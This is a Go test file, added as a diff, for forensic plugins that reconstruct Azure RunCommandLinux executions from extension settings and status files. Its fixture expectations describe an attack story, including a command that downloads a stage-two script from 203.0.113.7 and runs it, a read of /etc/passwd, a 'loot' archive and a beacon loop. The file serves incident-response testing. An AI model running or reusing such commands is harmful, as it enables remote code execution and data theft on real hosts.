@@ -1,0 +1,179 @@
+package extensions
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// Assertions follow the story in tests/fixtures/README.md.
+
+const (
+	fxH = "/var/lib/waagent/Microsoft.CPlat.Core.RunCommandLinux-1.0.5"
+	fxD = "/var/lib/waagent/run-command/download"
+)
+
+func TestFixtureLinuxExecutions(t *testing.T) {
+	root := fixtureTree(t, "linux")
+	rows, logs := runVQL(t, "SELECT * FROM azure_run_executions(root=Root)", map[string]any{"Root": root})
+	dumpRows(t, rows)
+	if logs != "" {
+		t.Errorf("unexpected log on a clean tree:\n%s", logs)
+	}
+	if len(rows) != 4 {
+		t.Fatalf("rows %d", len(rows))
+	}
+	check(t, "seq0", rows[0], map[string]any{
+		"SeqNo": int64(0), "Command": "id; hostname; cat /etc/passwd | head -3", "CommandSource": "script", "Protected": true,
+		"ScriptPath": fxD + "/0/script.sh", "Status": "success", "Running": false,
+		"Started": "2025-03-14T09:12:04.401733Z", "StartedSource": "script.mtime",
+		"Finished": "2025-03-14T09:12:04Z", "FinishedSource": "status.timestamp",
+		"StdErr": "", "OutputSource": "files",
+	})
+	if !strings.HasPrefix(rows[0]["StdOut"].(string), "uid=0(root) gid=0(root) groups=0(root)\n") {
+		t.Errorf("seq0 stdout %q", rows[0]["StdOut"])
+	}
+	check(t, "seq1", rows[1], map[string]any{
+		"SeqNo":         int64(1),
+		"Command":       "bash ./collect.sh; curl -fsSL https://203.0.113.7/stage2.sh -o /tmp/s.sh && bash /tmp/s.sh",
+		"CommandSource": "settings", "Protected": false, "ScriptPath": nil, "Status": "success", "ExitCode": nil,
+		"FileUris": "[https://stvmtools4821.blob.core.windows.net/tools/collect.sh?sv=2021-08-06&se=2025-03-14T11%3A45%3A00Z&sr=b&sp=r&sig=[REDACTED]]",
+		"StdErr":   "Failed to enable unit: Unit file dbus-update.service does not exist.\n",
+		"Finished": "2025-03-14T09:47:23Z",
+	})
+	if !strings.HasPrefix(rows[1]["StdOut"].(string), "host=vm-web01 kernel=5.15.0-1057-azure\n") {
+		t.Errorf("seq1 stdout %q", rows[1]["StdOut"])
+	}
+	f1 := rows[1]["Files"].([]any)
+	if len(f1) != 1 {
+		t.Fatalf("seq1 files %v", f1)
+	}
+	check(t, "seq1 collect.sh", f1[0].(map[string]any), map[string]any{"Name": "collect.sh", "OSPath": fxD + "/1/collect.sh"})
+	check(t, "seq2", rows[2], map[string]any{
+		"SeqNo": int64(2), "Command": nil, "CommandSource": nil, "ScriptPath": nil, "ScriptSHA256": nil, "Protected": true,
+		"StdOut": "-rw-r--r-- 1 root root 255 Mar 14 10:05 loot.tar.gz\n{\"status\":\"ok\",\"id\":\"7f3a9c\"}",
+		"StdErr": "tar: Removing leading `/' from member names\n", "Finished": "2025-03-14T10:05:42Z",
+	})
+	f2 := rows[2]["Files"].([]any)
+	if len(f2) != 1 {
+		t.Fatalf("seq2 files %v", f2)
+	}
+	check(t, "seq2 loot", f2[0].(map[string]any), map[string]any{"Name": "loot.tar.gz", "Size": int64(255),
+		"SHA256": "86d093566ffb86a210fd87686d3cefc13baf928f8b0b6f875b8ff039edd80fcd"})
+	check(t, "seq3", rows[3], map[string]any{
+		"SeqNo": int64(3), "CommandSource": "script", "Status": "transitioning", "Running": true, "Pid": int64(37342), "MostRecent": true,
+		"Started": "2025-03-14T10:31:04.553391Z", "Finished": nil, "FinishedSource": nil,
+		"StdOut": "2025-03-14T10:31:04Z beacon vm-web01\n2025-03-14T10:36:05Z beacon vm-web01\n",
+	})
+	if !strings.Contains(rows[3]["Command"].(string), "sleep 300") {
+		t.Errorf("seq3 command %q", rows[3]["Command"])
+	}
+
+	// redact=false shows the SAS signature.
+	rows, _ = runVQL(t, "SELECT FileUris FROM azure_run_executions(root=Root, redact=false) WHERE SeqNo = 1", map[string]any{"Root": root})
+	if u := rows[0]["FileUris"].([]any)[0].(string); !strings.HasSuffix(u, "sig=Xq3v9bK2mN7pL4rT8wY1zA6cE0fH5jD2gS9uI3oP7kM%3D") {
+		t.Errorf("redact=false: %s", u)
+	}
+}
+
+func TestFixtureLinuxHandlers(t *testing.T) {
+	root := fixtureTree(t, "linux")
+	rows, logs := runVQL(t, "SELECT * FROM azure_extension_handlers(root=Root)", map[string]any{"Root": root})
+	if logs != "" || len(rows) != 2 {
+		t.Fatalf("rows %d log %s", len(rows), logs)
+	}
+	check(t, "ama", rows[0], map[string]any{"Handler": "Microsoft.Azure.Monitor.AzureMonitorLinuxAgent", "Version": "1.9.1", "Running": false, "Pid": nil, "MostRecentSeq": int64(0)})
+	check(t, "rc1", rows[1], map[string]any{"Handler": "Microsoft.CPlat.Core.RunCommandLinux", "Version": "1.0.5", "OSPath": fxH,
+		"State": "Enabled", "MostRecentSeq": int64(3), "Running": true, "Pid": int64(37342), "PidStart": "Fri Mar 14 10:31:04 2025",
+		"SettingsCount": int64(4), "StatusCount": int64(4)})
+}
+
+func TestFixtureLinuxSettingsStatus(t *testing.T) {
+	root := fixtureTree(t, "linux")
+	cfg := filepath.Join(root, filepath.FromSlash(fxH), "config")
+	st := filepath.Join(root, filepath.FromSlash(fxH), "status")
+	var sf, tf []any
+	for i := 0; i < 4; i++ {
+		sf = append(sf, filepath.Join(cfg, string(rune('0'+i))+".settings"))
+		tf = append(tf, filepath.Join(st, string(rune('0'+i))+".status"))
+	}
+	rows, logs := runVQL(t, "SELECT * FROM azure_extension_settings(filename=F, root=Root)", map[string]any{"Root": root, "F": sf})
+	if logs != "" || len(rows) != 4 {
+		t.Fatalf("settings rows %d log %s", len(rows), logs)
+	}
+	for i, r := range rows {
+		check(t, "settings", r, map[string]any{"OSPath": fxH + "/config/" + string(rune('0'+i)) + ".settings", "SeqNo": int64(i), "ParseError": nil, "Empty": false})
+	}
+	check(t, "settings 0", rows[0], map[string]any{"Protected": true, "Thumbprint": "010F03CA0562E782EF60F02376591592CF2101F4", "Command": nil})
+	check(t, "settings 1", rows[1], map[string]any{"Protected": false, "Thumbprint": nil, "ProtectedSettings": nil, "CommandField": "commandToExecute"})
+	if !strings.HasPrefix(rows[3]["ProtectedSettings"].(string), "MII") {
+		t.Errorf("ciphertext %v", rows[3]["ProtectedSettings"])
+	}
+
+	rows, logs = runVQL(t, "SELECT * FROM azure_extension_status(filename=F, root=Root)", map[string]any{"Root": root, "F": tf})
+	if logs != "" || len(rows) != 4 {
+		t.Fatalf("status rows %d log %s", len(rows), logs)
+	}
+	check(t, "status 0", rows[0], map[string]any{"Status": "success", "Writer": "extension", "Placeholder": false, "Timestamp": "2025-03-14T09:12:04Z", "StdErr": ""})
+	check(t, "status 3", rows[3], map[string]any{"Status": "transitioning", "Writer": "extension", "Placeholder": false, "Message": "Enable in progress", "Timestamp": "2025-03-14T10:31:04Z"})
+}
+
+func TestFixtureLinuxBad(t *testing.T) {
+	root := fixtureTree(t, "linux-bad")
+	rows, logs := runVQL(t, "SELECT * FROM azure_run_executions(root=Root)", map[string]any{"Root": root})
+	dumpRows(t, rows)
+	if len(rows) != 13 {
+		t.Fatalf("rows %d", len(rows))
+	}
+	for i, r := range rows {
+		if num(r["SeqNo"]) != int64(i) {
+			t.Errorf("row %d: SeqNo %v", i, r["SeqNo"])
+		}
+	}
+	for _, want := range []string{fxH + "/config/0.settings: truncated JSON", fxH + "/config/8.settings: runtimeSettings is empty"} {
+		if !strings.Contains(logs, want) {
+			t.Errorf("log lacks %q:\n%s", want, logs)
+		}
+	}
+	check(t, "0 truncated settings", rows[0], map[string]any{"Command": "id", "CommandSource": "script", "Protected": nil, "Status": "success"})
+	check(t, "1 empty settings", rows[1], map[string]any{"Command": "uname -sr", "Protected": nil, "StartedSource": "script.mtime"})
+	check(t, "2 bom", rows[2], map[string]any{"Status": "success"})
+	check(t, "3 utf16", rows[3], map[string]any{"Status": "success"})
+	check(t, "4 never ran", rows[4], map[string]any{"Command": "echo never-ran", "Status": nil, "WorkingDir": nil, "Running": false, "Finished": nil})
+	check(t, "5 no settings", rows[5], map[string]any{"SettingsPath": nil, "Status": "success", "Command": nil})
+	check(t, "7 object status", rows[7], map[string]any{"Status": "success"})
+	check(t, "8 error status", rows[8], map[string]any{"Status": "error"})
+	check(t, "9 big stdout", rows[9], map[string]any{"StdOutTruncated": true})
+	if n := len(rows[9]["StdOut"].(string)); n != MaxOutputBytes {
+		t.Errorf("9: stdout %d bytes", n)
+	}
+	f10 := rows[10]["Files"].([]any)
+	if len(f10) != 1 || f10[0].(map[string]any)["Name"] != "loop" || f10[0].(map[string]any)["SHA256"] != nil {
+		t.Errorf("10 symlink loop: %v", f10)
+	}
+	check(t, "11 crash", rows[11], map[string]any{"Status": "transitioning", "Running": true,
+		"StatusLeftovers": "[" + fxH + "/status/11.status2847193650]"})
+	check(t, "12 never executed", rows[12], map[string]any{"Status": "transitioning", "Running": false, "StartedSource": "status.placeholder", "Started": "2025-03-20T11:00:00Z"})
+
+	// Every status file parses (or reports) without stopping.
+	st := filepath.Join(root, filepath.FromSlash(fxH), "status")
+	matches, _ := filepath.Glob(filepath.Join(st, "*"))
+	var files []any
+	for _, m := range matches {
+		files = append(files, m)
+	}
+	rows, _ = runVQL(t, "SELECT OSPath, SeqNo, Status, Encoding, Writer, ParseError FROM azure_extension_status(filename=F, root=Root)", map[string]any{"Root": root, "F": files})
+	if len(rows) != len(files) {
+		t.Errorf("status rows %d of %d", len(rows), len(files))
+	}
+	for _, r := range rows {
+		switch {
+		case strings.HasSuffix(r["OSPath"].(string), "/2.status"):
+			check(t, "bom", r, map[string]any{"Encoding": "utf-8-bom", "Status": "success"})
+		case strings.HasSuffix(r["OSPath"].(string), "/3.status"):
+			check(t, "utf16", r, map[string]any{"Encoding": "utf-16le", "Status": "success"})
+		case strings.HasSuffix(r["OSPath"].(string), "/12.status"):
+			check(t, "placeholder", r, map[string]any{"Writer": "shim"})
+		}
+	}
+}
